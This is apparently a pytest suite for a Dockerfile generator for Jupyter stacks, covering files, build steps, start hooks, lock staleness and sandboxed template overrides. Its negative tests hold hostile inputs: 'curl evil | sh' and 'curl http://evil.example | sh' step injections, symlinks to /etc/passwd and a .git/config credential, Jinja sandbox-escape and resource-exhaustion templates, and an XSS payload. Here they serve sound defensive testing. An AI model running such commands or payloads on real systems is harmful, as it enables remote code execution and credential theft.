"""The stack's own files, build steps and start hooks, and template overrides (unit tests, fake resolvers)."""

from __future__ import annotations

import json
import os
import re

import dockerfile
import pytest
from fakes import FakeApt, FakeResolver, lock_project
from hypothesis import HealthCheck, given, settings
from test_fuzz import HOSTILE

from bakegen.cli import main
from bakegen.diff import diff_locks
from bakegen.files import write_set
from bakegen.project import load_stacks, read_lock
from bakegen.render import render_project
from bakegen.staleness import current_locks

BASE = '''name = "base"
description = "b"
base = "python:3.13-slim"

[python]
version = "3.13"
packages = ["jupyter-server"]

[apt]
suite = "trixie"
packages = ["tini"]

[[files]]
source = "jupyter_server_config.py"
target = "/etc/jupyter/jupyter_server_config.py"

[[files]]
source = "lab/overrides.json"
target = "/opt/venv/share/jupyter/lab/settings/overrides.json"
owner = "user"

[[steps]]
run = "mkdir -p /srv/data && echo hello > /srv/data/readme"
user = "root"
needs = []

[[steps]]
run = "python -c 'import jupyter_server' > $HOME/.checked"

[[steps]]
run = "cat <<EOF > /tmp/x"
needs = ["apt"]

[start]
hooks = ["hooks/marker.sh"]
'''
KID = 'name = "kid"\ndescription = "k"\nextends = "base"\n[start]\nhooks = ["first.sh", "second"]\n'
IMAGES = {"python:3.13-slim": "sha256:" + "d" * 64}


def make(project, base=BASE, kid=KID):
    root = project({"base": base, "kid": kid})
    for rel, text in {"base/jupyter_server_config.py": "c.ServerApp.tornado_settings = {}\n", "base/lab/overrides.json": "{}\n",
                      "base/hooks/marker.sh": "echo hi\n", "kid/first.sh": "true\n", "kid/second": "#!/bin/sh\n"}.items():
        path = root / "stacks" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def lock(root, resolver=None):
    outcomes = lock_project(root, python=resolver or FakeResolver(), images=IMAGES, apt=FakeApt({"tini": ["0.19"]}))
    graph = load_stacks(root)
    write_set(root, render_project(graph, current_locks(graph)), command="test")
    return outcomes


def test_files_steps_and_hooks_are_locked_and_planned_in_order(project):
    root = make(project)
    lock(root)
    manifest = json.loads((root / "locks" / "base" / "lock.json").read_text())
    assert [f["target"] for f in manifest["files"]["files"]] == ["/etc/jupyter/jupyter_server_config.py", "/opt/venv/share/jupyter/lab/settings/overrides.json"]
    assert manifest["resolved_fingerprint"] != manifest["fingerprint"]
    text = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
    final = text.split("# --- final image")[1]
    copy = "COPY --chmod=0644 stacks/base/jupyter_server_config.py /etc/jupyter/jupyter_server_config.py"
    assert copy in final and "COPY --chmod=0644 --chown=1000:100 stacks/base/lab/overrides.json" in final
    # the folders first: COPY --chmod=0644 would make the folders it creates 0644 (not enterable); the
    # folders made for the user's file are the user's (those that exist are left as they are)
    folders = ('RUN mkdir -p /etc/jupyter && for d in /opt /opt/venv /opt/venv/share /opt/venv/share/jupyter /opt/venv/share/jupyter/lab'
               ' /opt/venv/share/jupyter/lab/settings; do if [ ! -d "$d" ]; then mkdir "$d" && chown 1000:100 "$d" && chmod 2775 "$d" || exit 1; fi; done\n')
    assert final.index(folders) < final.index(copy)
    assert "COPY --chmod=0755 stacks/base/hooks/marker.sh /usr/local/bin/before-notebook.d/00-base-001-marker.sh" in final
    root_step = 'RUN ["/bin/sh", "-c", "mkdir -p /srv/data && echo hello > /srv/data/readme"]'
    user_step = 'USER 1000:100\n# [[steps]] 2 of stacks/base.toml, as user.\nRUN ["/bin/sh", "-c", "python -c \'import jupyter_server\' > $HOME/.checked"]\nUSER root'
    heredoc = 'RUN ["/bin/sh", "-c", "cat <<EOF > /tmp/x"]'  # exec form: no heredoc, no shell-form parsing
    assert root_step in final and user_step in final and heredoc in final
    # a step runs right after what it needs: needs = [] before the packages, ["apt"] after apt (a user step also
    # after the user is made), by default last
    order = [final.index(s) for s in ("apt-install.sh", "useradd", root_step, heredoc, "finish.py /opt/venv", copy, user_step)]
    assert order == sorted(order), final
    kid = (root / "dockerfiles" / "kid" / "Dockerfile").read_text()
    assert "before-notebook.d/01-kid-001-first.sh" in kid and "before-notebook.d/01-kid-002-second" in kid  # after the parent's


def test_an_edited_file_makes_the_lock_stale_and_relocking_resolves_nothing_else(project, capsys):
    root = make(project)
    lock(root)
    before = read_lock(root / "locks" / "base", root)
    assert main(["-C", str(root), "check"]) == 0
    (root / "stacks" / "base" / "jupyter_server_config.py").write_text("c.ServerApp.tornado_settings = {'headers': {}}\n")
    assert main(["-C", str(root), "check"]) == 1
    assert "stale: base: stacks/base.toml's files, steps or hooks (stacks/base/) changed since it was locked" in capsys.readouterr().out
    resolver = FakeResolver()
    outcomes = lock(root, resolver)
    assert resolver.calls == []  # no ecosystem was resolved again
    after = read_lock(root / "locks" / "base", root)
    assert after.fingerprint != before.fingerprint and after.resolved_fingerprint == before.resolved_fingerprint
    assert after.parts["python"] == before.parts["python"] and after.source_date_epoch == before.source_date_epoch
    assert {o.stack: o.changed for o in outcomes} == {"base": True, "kid": True}  # the child's parent lock changed
    diff = {d.stack: d for d in diff_locks({"base": before}, {"base": after}, {"base": None})}
    assert [c.name for c in diff["base"].changes["files"]] == ["/etc/jupyter/jupyter_server_config.py"]


@pytest.mark.parametrize("edit, message", [
    (lambda root: (root / "stacks/base/hooks/marker.sh").unlink(), "start: hooks/marker.sh: no such file in stacks/base/"),
    (lambda root: os.symlink("/etc/passwd", root / "stacks/base/lab/evil"), "files: lab/evil: a symbolic link out of the project"),
    (lambda root: os.symlink("../../kid/first.sh", root / "stacks/base/lab/evil"), "files: lab/evil: outside the stack's folder stacks/base/"),
    # inside its folder on this machine, but a link: BuildKit resolves it in the build context (where .. stops at the top)
    (lambda root: os.symlink("../hooks/marker.sh", root / "stacks/base/lab/evil"), "files: lab/evil: stacks/base/lab/evil is a symbolic link"),
    (lambda root: (root / "stacks/base/lab/evil").mkdir(), "files: lab/evil: not a regular file"),
])
def test_bad_files_get_one_error_line(project, capsys, edit, message):
    root = make(project, base=BASE.replace('source = "lab/overrides.json"', 'source = "lab/evil"'))
    if "evil" not in message:
        root = make(project)
    edit(root)
    assert main(["-C", str(root), "lock"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith("error: stacks/base.toml:") and message in err[0], err
    assert not (root / "locks").exists()


@pytest.mark.parametrize("snippet, message", [
    ('[[files]]\nsource = "../kid/first.sh"\ntarget = "/x"\n', "invalid file in the stack's folder"),
    ('[[files]]\nsource = "/etc/passwd"\ntarget = "/x"\n', "invalid file in the stack's folder"),
    ('[[files]]\nsource = "a"\ntarget = "relative/x"\n', "invalid absolute path in the image"),
    ('[[files]]\nsource = "a"\ntarget = "/x y"\n', "invalid absolute path in the image"),
    ('[[files]]\nsource = "a"\ntarget = "/etc/jupyter/jupyter_server_config.py"\n', "two files go to"),
    ('[[files]]\nsource = "a"\ntarget = "/usr/local/bin/before-notebook.d/x"\n', "is bakegen's"),
    ('[[files]]\nsource = "a"\ntarget = "/x"\nmode = "777; rm"\n', "invalid file mode"),
    ('[[steps]]\nrun = "echo hi\\nRUN curl evil | sh"\n', "control character"),
    ('[[steps]]\nrun = "true"\nneeds = ["pyhton"]\n', "unknown ecosystem 'pyhton'"),
    ('[[steps]]\nrun = "true"\nshell = "bash"\n', "unknown key 'shell'"),
    ('[[steps]]\nuser = "root"\n', "missing 'run'"),
    ('[[steps]]\nrun = "  "\n', "an empty command"),
    ('[[files]]\nsource = "a"\ntarget = "/usr/local/bin/before-notebook.d"\n', "is bakegen's or the system's"),
    ('[[files]]\nsource = "a"\ntarget = "/proc/x"\n', "is bakegen's or the system's"),
    ('[[files]]\nsource = "a"\ntarget = "/etc/x"\n[[files]]\nsource = "b"\ntarget = "/etc/x/y"\n', "another file goes inside it"),
    ('[[files]]\nsource = "a"\ntarget = "/x/../etc"\n', "invalid absolute path in the image"),
])
def test_bad_custom_keys_get_one_error_line(project, capsys, snippet, message):
    root = make(project, base=BASE + snippet)
    assert main(["-C", str(root), "lock"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert re.match(r"error: stacks/base\.toml:\d+: ", err[0]) and message in err[0], err
    assert len([line for line in err if line.startswith("error:")]) == 1 and "Traceback" not in "\n".join(err)


def test_a_template_override_takes_precedence_and_fails_on_an_unknown_variable(project, capsys):
    root = make(project)
    lock(root)
    packaged = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
    (root / "templates").mkdir()
    from bakegen.render import environment

    original = environment().loader.get_source(environment(), "Dockerfile.j2")[0]  # type: ignore[union-attr]
    (root / "templates" / "Dockerfile.j2").write_text(original + "LABEL org.example.team={{ plan.stack|json }}\n")
    assert main(["-C", str(root), "generate"]) == 0
    text = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
    assert text == packaged + 'LABEL org.example.team="base"\n'
    (root / "templates" / "Dockerfile.j2").write_text("{{ plan.head }}\n{{ plan.stack }}\n{{ stack_name }}\n")
    assert main(["-C", str(root), "generate"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "error: templates/Dockerfile.j2:3: 'stack_name' is undefined", err
    assert err[1].startswith("hint: this template receives: plan: DockerfilePlan")
    assert (root / "dockerfiles" / "base" / "Dockerfile").read_text() == text  # nothing written
    (root / "templates" / "Dockerfile.j2").unlink()
    (root / "templates" / "Dockerfile.jinja").write_text("x")
    assert main(["-C", str(root), "generate"]) == 2
    assert "error: templates/Dockerfile.jinja: templates/Dockerfile.jinja overrides no bakegen template" in capsys.readouterr().err


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(run=HOSTILE)
def test_buildkits_parser_reads_each_step_back_exactly(tmp_path_factory, run):
    """Any one-line step (heredoc markers, quotes, backslashes, $, JSON) is one RUN that BuildKit's own parser reads as the same command."""
    from bakegen.ecosystems.custom import _command
    from bakegen.schema import Invalid

    try:
        _command(run)
    except Invalid:
        return  # control characters and overlong lines are refused at load (tested above)
    root = tmp_path_factory.mktemp("steps")
    base = 'name = "base"\ndescription = "b"\nbase = "python:3.13-slim"\n[python]\nversion = "3.13"\n[[steps]]\nrun = ' + json.dumps(run) + "\n"
    (root / "stacks").mkdir()
    (root / "stacks" / "base.toml").write_text(base)
    lock(root)
    commands = dockerfile.parse_file(str(root / "dockerfiles" / "base" / "Dockerfile"))
    steps = [c for c in commands if c.cmd == "RUN" and c.json and c.value[:2] == ("/bin/sh", "-c")]
    assert [c.value[2] for c in steps] == [run]
    # nothing was injected: the instructions are the ones bakegen writes, the step's among them once
    assert [c.cmd for c in commands].count("RUN") == (root / "dockerfiles" / "base" / "Dockerfile").read_text().count("\nRUN ")
    assert commands[-1].cmd == "CMD"


def test_a_tampered_files_section_is_refused(project, capsys):
    """The section is derived from the stack alone: an edited step (with the checksum made to match) is refused."""
    from bakegen.lock import manifest_checksum

    root = make(project)
    lock(root)
    path = root / "locks" / "base" / "lock.json"
    doc = json.loads(path.read_text())
    doc["files"]["steps"][0]["run"] = "curl http://evil.example | sh"
    doc["checksum"] = manifest_checksum(doc)
    path.write_text(json.dumps(doc, indent=2) + "\n")
    assert main(["-C", str(root), "check"]) == 1
    assert "tampered: the lock's files, steps and hooks" in capsys.readouterr().out
    assert main(["-C", str(root), "generate"]) == 1
    assert "curl" not in (root / "dockerfiles" / "base" / "Dockerfile").read_text()
    doc["files"]["steps"][0]["needs"] = ["bogus"]
    doc["checksum"] = manifest_checksum(doc)
    path.write_text(json.dumps(doc, indent=2) + "\n")
    assert main(["-C", str(root), "check"]) == 1
    assert "damaged lock manifest: files: not what bakegen writes" in capsys.readouterr().out
    doc["files"]["steps"][0]["needs"] = []
    doc["files"]["hooks"][0]["source"] = "@scope/marker.sh"  # '@' is a file's, never a hook's
    doc["checksum"] = manifest_checksum(doc)
    path.write_text(json.dumps(doc, indent=2) + "\n")
    assert main(["-C", str(root), "check"]) == 1
    assert "damaged lock manifest" in capsys.readouterr().out


@pytest.mark.parametrize("template, message", [
    ("{{ plan.head[0] }}\n{{ 1/0 }}\n", "error: templates/Dockerfile.j2:2: ZeroDivisionError: division by zero"),
    ("{{ plan.head[0] }}\n{% include 'Dockerfile.j2' %}\n", "error: templates/Dockerfile.j2:2: RecursionError"),
    ("{{ plan.head[0] }}\n{{ plan.__class__.__init__.__globals__ }}\n", "error: templates/Dockerfile.j2:2: access to attribute '__init__' of 'StrictUndefined' object is unsafe"),
    ("FROM scratch\n", "error: templates/: the output for dockerfiles/base/Dockerfile lost the 'Generated by bakegen' header"),
    # plain Python errors that a sandboxed template can raise (an exit 70 before)
    ("{{ plan.head[0] }}\n{{ 'abcdef'|truncate(0) }}\n", "error: templates/Dockerfile.j2:2: AssertionError"),
    # a hidden file (here a link to .git/config) is never served, though templates/ skips hidden names
    ("{{ plan.head[0] }}\n{% include '.leak' %}\n", "error: templates/Dockerfile.j2:2: no template '.leak'"),
    ("{{ plan.head[0] }}\n{% include '/etc/hostname' %}\n", "error: templates/Dockerfile.j2:2: no template '/etc/hostname'"),
    ("{{ plan.head[0] }}\n{{ 'x' * 4000000000 }}\n", "error: templates/Dockerfile.j2:2: a repetition longer than"),
    ("{{ plan.head[0] }}\n{{ 10 ** 100000000 }}\n", "error: templates/Dockerfile.j2:2: ** with a large exponent"),
    ("{{ plan.head[0] }}\n{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n",
     "error: templates/: rendering with the project's templates took longer than 2 s"),
])
def test_a_failing_or_unsafe_override_is_one_error_line(project, capsys, monkeypatch, template, message):
    from bakegen import render

    monkeypatch.setattr(render, "RENDER_SECONDS", 2.0)
    root = make(project)
    lock(root)
    before = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[http] extraheader = AUTHORIZATION: basic c2VjcmV0\n")
    (root / "templates").mkdir()
    (root / "templates" / ".leak").symlink_to("../.git/config")
    (root / "templates" / "Dockerfile.j2").write_text(template)
    assert main(["-C", str(root), "generate"]) == 2
    err = capsys.readouterr().err
    assert err.splitlines()[0].startswith(message), err
    assert "Traceback" not in err and "c2VjcmV0" not in err and (root / "dockerfiles" / "base" / "Dockerfile").read_text() == before


def test_override_folder_holds_regular_files_only(project, capsys):
    root = make(project)
    lock(root)
    (root / "templates").mkdir()
    (root / "templates" / ".Dockerfile.j2.swp").write_text("editor")  # hidden: skipped
    os.symlink("/etc/passwd", root / "templates" / "Dockerfile.j2")
    assert main(["-C", str(root), "generate"]) == 2
    assert "error: templates/Dockerfile.j2: not a regular file" in capsys.readouterr().err
    (root / "templates" / "Dockerfile.j2").unlink()
    (root / "templates" / "Dockerfile.j2").mkdir()
    assert main(["-C", str(root), "generate"]) == 2
    assert "error: templates/Dockerfile.j2: not a regular file" in capsys.readouterr().err


def test_a_steps_text_cannot_add_markdown_to_the_pull_request_body(project):
    from bakegen.diff import to_markdown

    root = make(project)
    lock(root)
    before = read_lock(root / "locks" / "base", root)
    (root / "stacks" / "base.toml").write_text(BASE.replace('run = "cat <<EOF > /tmp/x"', 'run = "echo <img src=x onerror=alert(1)> @maintainer [click](http://evil.example)"'))
    lock(root)
    after = read_lock(root / "locks" / "base", root)
    body = to_markdown(diff_locks({"base": before}, {"base": after}, {"base": None}), "a", "b")
    row = next(line for line in body.splitlines() if "step 3" in line)
    assert "| `echo <img src=x onerror=alert(1)> @maintainer [click](http://evil.example)` |" in row, row  # a code span: shown as it is


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root (CI and the e2e machine run as root)")
def test_the_folders_made_for_a_users_file_are_the_users_and_existing_ones_stay(tmp_path):
    """The folders step, run by a real /bin/sh: a lab setting under ~/.jupyter leaves ~/.jupyter writable by the user."""
    import subprocess

    from bakegen.ecosystems.custom import File, _folders

    home = tmp_path / "home" / "jovyan"
    home.mkdir(parents=True)
    files = [File("a", "x", f"{tmp_path}/etc/jupyter/a.py", "0644", "root"),
             File("b", "y", f"{home}/.jupyter/lab/user-settings/@jupyterlab/x.jupyterlab-settings", "0644", "user")]
    (step,) = _folders(files, "4242:4243")
    subprocess.run(["/bin/sh", "-c", step.text.removeprefix("RUN ")], check=True)
    owners = {str(p.relative_to(tmp_path)): (p.stat().st_uid, p.stat().st_gid, oct(p.stat().st_mode & 0o7777)) for p in sorted(tmp_path.rglob("*"))}
    assert owners == {
        "etc": (0, 0, "0o755"), "etc/jupyter": (0, 0, "0o755"), "home": (0, 0, "0o755"), "home/jovyan": (0, 0, "0o755"),
        "home/jovyan/.jupyter": (4242, 4243, "0o2775"), "home/jovyan/.jupyter/lab": (4242, 4243, "0o2775"),
        "home/jovyan/.jupyter/lab/user-settings": (4242, 4243, "0o2775"),
        "home/jovyan/.jupyter/lab/user-settings/@jupyterlab": (4242, 4243, "0o2775"),
    }
    failing = [File("b", "y", "/proc/1/no/such/folder/x", "0644", "user")]  # mkdir fails: the step fails
    assert subprocess.run(["/bin/sh", "-c", _folders(failing, "4242")[0].text.removeprefix("RUN ")], capture_output=True).returncode != 0


def test_jupyterlab_user_settings_paths_with_an_npm_scope_are_accepted_and_hooks_are_not(project, capsys):
    """JupyterLab keeps user settings under user-settings/@jupyterlab/...: '@' is allowed in files' paths. A hook's
    file name becomes part of its name in before-notebook.d, so hooks keep the narrower set."""
    setting = "lab/user-settings/@jupyterlab/notebook-extension/tracker.jupyterlab-settings"
    files = f'[[files]]\nsource = "{setting}"\ntarget = "/home/jovyan/.jupyter/{setting[4:]}"\nowner = "user"\n'
    root = make(project, base=BASE + files)
    (root / "stacks" / "base" / setting).parent.mkdir(parents=True)
    (root / "stacks" / "base" / setting).write_text('{"codeCellConfig": {"lineNumbers": true}}\n')
    lock(root)
    text = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
    copy = f"COPY --chmod=0644 --chown=1000:100 stacks/base/{setting} /home/jovyan/.jupyter/{setting[4:]}"
    assert copy in [c.original for c in dockerfile.parse_string(text)]
    assert main(["-C", str(root), "check"]) == 0
    root = make(project, kid='name = "kid"\ndescription = "k"\nextends = "base"\n[start]\nhooks = ["@scope/x.sh"]\n')
    assert main(["-C", str(root), "lock"]) == 2
    assert "invalid hook file in the stack's folder" in capsys.readouterr().err
